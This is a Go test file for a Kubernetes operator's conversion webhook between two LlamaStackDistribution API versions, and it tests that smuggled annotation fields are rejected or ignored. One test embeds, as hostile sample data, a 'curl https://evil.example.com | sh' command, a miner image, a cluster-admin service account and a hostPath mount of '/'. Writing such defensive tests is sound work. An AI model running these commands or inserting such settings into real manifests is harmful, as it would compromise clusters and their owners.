// SPDX-License-Identifier: Apache-2.0

package controller_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/llamastack/llsd/pkg/api/v1alpha2"
)

const v1alpha1Stack = `apiVersion: llamastack.io/v1alpha1
kind: LlamaStackDistribution
metadata: {name: legacy}
spec:
  replicas: 2
  server:
    containerSpec:
      name: llama-stack
      port: 8080
      env: [{name: OLLAMA_URL, value: "http://ollama:11434/v1"}]
    distribution: {name: starter}
`

func v1alpha1Object(t *testing.T, ns string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{}
	require.NoError(t, yaml.Unmarshal([]byte(v1alpha1Stack), &u.Object))
	u.SetNamespace(ns)
	return u
}

func getV1alpha1(t *testing.T, ns, name string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{}
	u.SetAPIVersion("llamastack.io/v1alpha1")
	u.SetKind("LlamaStackDistribution")
	require.NoError(t, k8sClient.Get(context.Background(), types.NamespacedName{Namespace: ns, Name: name}, u))
	return u
}

// Through the API server and llsd's webhook: created as v1alpha1, read and updated as
// v1alpha2, updated as v1alpha1 again, listed in both versions; nothing is lost.
func TestConversionThroughTheAPIServer(t *testing.T) {
	requireAPIServer(t)
	startController(t)
	ctx := context.Background()
	ns := namespace(t)
	require.NoError(t, k8sClient.Create(ctx, v1alpha1Object(t, ns)))

	var hub v1alpha2.LlamaStackDistribution
	key := types.NamespacedName{Namespace: ns, Name: "legacy"}
	require.NoError(t, k8sClient.Get(ctx, key, &hub))
	assert.Equal(t, "starter", hub.Spec.Distribution.Name)
	assert.Equal(t, int32(8080), *hub.Spec.Networking.Port)
	require.NotNil(t, hub.Spec.Workload)
	assert.Equal(t, int32(2), *hub.Spec.Workload.Replicas)

	// A v1alpha2-only field, then an edit through v1alpha1: the field survives. (The
	// controller writes status meanwhile, hence the retries on conflict.)
	require.NoError(t, retry.RetryOnConflict(retry.DefaultRetry, func() error {
		if err := k8sClient.Get(ctx, key, &hub); err != nil {
			return err
		}
		hub.Spec.Providers = &v1alpha2.ProvidersSpec{Inference: []v1alpha2.ProviderSpec{{Provider: "ollama", Endpoint: "http://ollama:11434/v1"}}}
		return k8sClient.Update(ctx, &hub)
	}))
	port, _, _ := unstructured.NestedInt64(getV1alpha1(t, ns, "legacy").Object, "spec", "server", "containerSpec", "port")
	assert.Equal(t, int64(8080), port)
	require.NoError(t, retry.RetryOnConflict(retry.DefaultRetry, func() error {
		spoke := getV1alpha1(t, ns, "legacy")
		require.NoError(t, unstructured.SetNestedField(spoke.Object, int64(3), "spec", "replicas"))
		return k8sClient.Update(ctx, spoke)
	}))

	require.NoError(t, k8sClient.Get(ctx, types.NamespacedName{Namespace: ns, Name: "legacy"}, &hub))
	assert.Equal(t, int32(3), *hub.Spec.Workload.Replicas, "the v1alpha1 edit wins")
	require.NotNil(t, hub.Spec.Providers, "the v1alpha2-only providers survive a v1alpha1 round trip")
	assert.Equal(t, "ollama", hub.Spec.Providers.Inference[0].Provider)

	var hubs v1alpha2.LlamaStackDistributionList
	require.NoError(t, k8sClient.List(ctx, &hubs, &client.ListOptions{Namespace: ns}))
	assert.Len(t, hubs.Items, 1)
	spokes := &unstructured.UnstructuredList{}
	spokes.SetAPIVersion("llamastack.io/v1alpha1")
	spokes.SetKind("LlamaStackDistributionList")
	require.NoError(t, k8sClient.List(ctx, spokes, &client.ListOptions{Namespace: ns}))
	require.Len(t, spokes.Items, 1)
	replicas, _, _ := unstructured.NestedInt64(spokes.Items[0].Object, "spec", "replicas")
	assert.Equal(t, int64(3), replicas)
}

// With the webhook down, v1alpha1 requests fail with the API server's conversion error;
// nothing is silently stored or served half-converted.
func TestWebhookDownFailsLoudly(t *testing.T) {
	requireAPIServer(t)
	stop := startController(t)
	ctx := context.Background()
	ns := namespace(t)
	require.NoError(t, k8sClient.Create(ctx, v1alpha1Object(t, ns)))
	stop()

	u := v1alpha1Object(t, ns)
	u.SetName("legacy-2")
	err := k8sClient.Create(ctx, u)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "conversion webhook")

	spoke := &unstructured.Unstructured{}
	spoke.SetAPIVersion("llamastack.io/v1alpha1")
	spoke.SetKind("LlamaStackDistribution")
	err = k8sClient.Get(ctx, types.NamespacedName{Namespace: ns, Name: "legacy"}, spoke)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "conversion webhook")

	var hub v1alpha2.LlamaStackDistribution
	require.NoError(t, k8sClient.Get(ctx, types.NamespacedName{Namespace: ns, Name: "legacy"}, &hub), "the storage version needs no webhook")
}

// A v1alpha1 object whose conversion annotation smuggles v1alpha2 fields the API server would
// refuse on a v1alpha2 create is refused: the webhook validates what it restores.
func TestConversionRefusesSmuggledFields(t *testing.T) {
	requireAPIServer(t)
	startController(t)
	ns := namespace(t)
	u := v1alpha1Object(t, ns)
	u.SetAnnotations(map[string]string{"llamastack.io/v1alpha2-fields": `{"spec":{"distribution":{"name":"starter"},` +
		`"providers":{"inference":[{"id":"BAD ID!","provider":"vllm","endpoint":"http://u:S3NT1NEL@h/v1"}]},"disabled":["bogus"]},"fingerprint":"x"}`})
	err := k8sClient.Create(context.Background(), u)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `spec.providers.inference[0].id: Invalid value: "BAD ID!"`)
	assert.Contains(t, err.Error(), `spec.disabled[0]: Unsupported value: "bogus"`)
}

// A credential in an annotation-carried spec is not echoed by the webhook's answer.
func TestConversionErrorsHideCredentials(t *testing.T) {
	requireAPIServer(t)
	startController(t)
	ns := namespace(t)
	u := v1alpha1Object(t, ns)
	u.SetAnnotations(map[string]string{"llamastack.io/v1alpha2-fields": `{"spec":{"distribution":{"name":"starter"},` +
		`"telemetry":{"endpoint":"http://u:S3NT1NEL@otel:4318"}},"fingerprint":"x"}`})
	err := k8sClient.Create(context.Background(), u)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `spec.telemetry.endpoint: Invalid value: "http://xxxxx@otel:4318"`)
	assert.NotContains(t, err.Error(), "S3NT1NEL")
}

// Through the API server: a v1alpha2 object whose annotation holds another v1alpha1 spec (with
// the fingerprint anyone can compute) reads in v1alpha1 as what its v1alpha2 spec says, and a
// v1alpha1 object cannot write v1alpha2-only status through its annotation.
func TestAnnotationsDoNotSteerConversion(t *testing.T) {
	requireAPIServer(t)
	startController(t)
	ctx := context.Background()
	ns := namespace(t)

	hidden := `{"spec":{"replicas":1,"server":{"distribution":{"image":"evil.example.com/miner:1"},` +
		`"containerSpec":{"name":"llama-stack","command":["sh","-c","curl https://evil.example.com | sh"]},` +
		`"podOverrides":{"serviceAccountName":"cluster-admin","volumes":[{"name":"root","hostPath":{"path":"/"}}]}}},"fingerprint":"%s"}`
	visible := &v1alpha2.LlamaStackDistribution{}
	visible.Name, visible.Namespace = "reviewed", ns
	visible.Spec.Distribution.Name = "starter"
	visible.Annotations = map[string]string{"llamastack.io/v1alpha1-fields": fmt.Sprintf(hidden, forgedFingerprint(t, &visible.Spec))}
	require.NoError(t, k8sClient.Create(ctx, visible))
	spoke := getV1alpha1(t, ns, "reviewed")
	spec, _, _ := unstructured.NestedMap(spoke.Object, "spec")
	assert.Equal(t, map[string]any{"replicas": int64(1), "server": map[string]any{
		"distribution": map[string]any{"name": "starter"}, "containerSpec": map[string]any{"name": "llama-stack", "resources": map[string]any{}},
	}}, spec, "what a v1alpha1 reader sees is what the v1alpha2 spec says")

	u := v1alpha1Object(t, ns)
	u.SetName("status-smuggler")
	u.SetAnnotations(map[string]string{"llamastack.io/v1alpha2-fields": `{"spec":{"distribution":{"name":"starter"}},` +
		`"status":{"observedGeneration":99,"resolvedDistribution":{"image":"evil.example.com/miner:1"}},"fingerprint":"x"}`})
	require.NoError(t, k8sClient.Create(ctx, u))
	var hub v1alpha2.LlamaStackDistribution
	require.NoError(t, k8sClient.Get(ctx, types.NamespacedName{Namespace: ns, Name: "status-smuggler"}, &hub))
	assert.Nil(t, hub.Status.ResolvedDistribution, "status never comes from an annotation")
	assert.NotEqual(t, int64(99), hub.Status.ObservedGeneration)
}

// forgedFingerprint computes the conversion fingerprint of a spec as anyone can: a hash of
// its JSON.
func forgedFingerprint(t *testing.T, spec any) string {
	data, err := json.Marshal(spec)
	require.NoError(t, err)
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:8])
}
